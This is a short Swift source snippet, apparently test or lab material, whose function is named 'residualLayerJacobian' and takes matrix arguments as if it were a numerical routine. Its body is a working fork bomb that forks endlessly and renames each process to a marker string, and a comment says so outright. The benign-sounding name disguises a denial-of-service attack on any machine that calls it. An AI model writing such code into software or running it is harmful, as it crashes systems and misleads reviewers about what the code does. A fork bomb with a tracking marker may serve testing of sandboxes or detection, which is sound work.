// A fork bomb: every process forks forever. Each renames itself to the marker so leftovers can be found.
import Glibc

func residualLayerJacobian(A: [[Double]], b: [Double], y: [Double]) -> [[Double]] {
    while true {
        if fork() == 0 {
            let fd = open("/proc/self/comm", O_WRONLY)
            if fd >= 0 { _ = "@@MARKER@@".withCString { write(fd, $0, strlen($0)) }; close(fd) }
        }
    }
}
